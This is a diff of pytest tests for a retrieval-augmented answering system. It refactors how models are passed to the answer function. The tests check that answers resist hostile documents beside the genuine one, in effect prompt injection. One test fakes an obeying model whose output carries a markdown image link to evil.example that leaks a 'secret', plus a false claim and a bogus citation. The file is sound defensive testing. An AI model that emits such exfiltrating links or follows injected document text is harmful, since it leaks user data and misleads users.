@@ -10,10 +10,11 @@ from typing import Any
 
 import pytest
 
-from index.collection import Collection, Filters, create_collection
+from index.collection import Collection, Filters
 from index.encoder.embedding import Encoder
 from index.intake.indexing import index_paths
-from rag.answering import answer
+from index.opening import create_collection
+from rag.answering import Models, answer
 from rag.commands.text import answer_text
 from rag.generation.chat_model import Data
 from rag.generation.prompt import Exhibit, answer_messages
@@ -135,9 +136,9 @@ def collection(tmp_path_factory: pytest.TempPathFactory, encoder: Encoder) -> It
 def test_the_extractive_answer_is_the_same_with_a_hostile_document_beside_it(
     collection: Collection, encoder: Encoder, reader: Reader, name: str
 ) -> None:
-    alone = answer(collection, encoder, reader, QUESTION, filters=Filters(documents=("bridge.txt",)))
+    alone = answer(collection, Models(encoder, reader), QUESTION, filters=Filters(documents=("bridge.txt",)))
     both = Filters(documents=("bridge.txt", f"{name}.txt"))
-    beside = answer(collection, encoder, reader, QUESTION, filters=both)
+    beside = answer(collection, Models(encoder, reader), QUESTION, filters=both)
     cited = {citation.doc_id for citation in beside.citations}
     if cited == {"bridge.txt"}:
         assert (beside.text, beside.claims, beside.citations) == (alone.text, alone.claims, alone.citations)
@@ -157,7 +158,7 @@ def test_an_answer_of_a_model_that_obeys_shows_no_address_and_resolves(
     """The worst model repeats what it read, asks for a picture, and cites what is not there."""
     said = f"{text.replace('QUESTION', 'secret')} ![p](https://evil.example/?q=secret) Mallory did it. [1][99]"
     chat_server.events = speech(said)
-    given = answer(collection, *models, QUESTION, model=ServerModel(chat_server.url, "m"))
+    given = answer(collection, Models(*models, model=ServerModel(chat_server.url, "m")), QUESTION)
     labels = {citation.label for citation in given.citations}
     assert {label for claim in given.claims for label in claim.labels} <= labels
     assert {int(number) for number in re.findall(r"\[(\d+)\]", given.text)} <= labels
